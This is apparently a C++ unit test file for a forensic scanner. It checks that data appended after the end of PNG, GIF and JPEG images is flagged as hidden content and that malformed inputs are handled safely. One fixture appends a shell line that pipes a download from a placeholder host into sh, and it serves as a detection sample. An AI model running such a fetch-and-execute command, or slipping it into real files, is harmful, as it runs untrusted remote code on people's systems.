#include <gtest/gtest.h>

#include "evidence/recorder.h"
#include "parse/mutants.h"

namespace examine {
const evidence::Reader& pictures();

namespace {

using namespace std::string_literals;
using evidence::Confidence;
using evidence::Facet;

evidence::Reading look(std::string_view text, std::string_view kind) { return evidence::read_alone(pictures(), base::bytes_of(text), kind, "x"); }
std::vector<evidence::Item> hidden(const evidence::Reading& r, std::string_view word) { return r.sink.all(Facet::concealment, word); }

const std::string png = "\x89PNG\r\n\x1a\n"s + "\0\0\0\x0dIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0AAAA"s + "\0\0\0\4IDATxxxxBBBB"s + "\0\0\0\0IENDCCCC"s;
const std::string gif = "GIF89a\1\0\1\0\x80\0\0AAABBB"s + "\x21\xf9\4XXXX\0"s + "\x2c\0\0\0\0\1\0\1\0\0\2\2ab\0\x3b"s;
const std::string jpeg = "\xff\xd8\xff\xe0\0\4ab\xff\xda\0\4cd"s + "data\xff\0\xff\xd0more"s + "\xff\xd9"s;

TEST(Pictures, BytesAfterTheEnd) {
  for (const auto& [picture, kind] : {std::pair{png, "png"}, std::pair{gif, "gif"}, std::pair{jpeg, "jpeg"}}) {
    EXPECT_TRUE(look(picture, kind).sink.items.empty()) << kind;
    EXPECT_TRUE(look(picture + std::string(64, '\0'), kind).sink.items.empty()) << kind;
    const auto r = look(picture + "#!/bin/sh\n" + "curl -s http://payload.invalid/x | sh\n", kind);
    ASSERT_EQ(hidden(r, "steganography").size(), 1u) << kind;
    EXPECT_EQ(hidden(r, "steganography")[0].range.offset, picture.size());
    EXPECT_EQ(hidden(r, "steganography")[0].confidence, Confidence::medium);
    ASSERT_EQ(r.sink.children.size(), 1u);
    EXPECT_EQ(r.sink.children[0].entry.origin, artifact::Origin::embedded);
    EXPECT_EQ(hidden(look(picture + "\x91\x07\xfe\x33\xa8 bytes of no known form \xc4\xd5"s, kind), "steganography")[0].confidence, Confidence::low);
  }
}

TEST(Pictures, TruncatedAndMutated) {
  for (const auto& [picture, kind] : {std::pair{png, "png"}, std::pair{gif, "gif"}, std::pair{jpeg, "jpeg"}}) {
    const auto text = picture + "#!/bin/sh\n";
    const auto try_it = [kind = kind](base::Bytes b) {
      const auto r = evidence::read_alone(pictures(), b, kind);
      for (const auto& item : r.sink.items) ASSERT_LE(item.range.end(), b.size());
      for (const auto& claim : r.sink.claims) ASSERT_LE(claim.range.end(), b.size());
    };
    parse::each_truncation(base::bytes_of(text), try_it);
    parse::each_mutant(base::bytes_of(text), 1000, 9, try_it);
  }
}

}  // namespace
}  // namespace examine
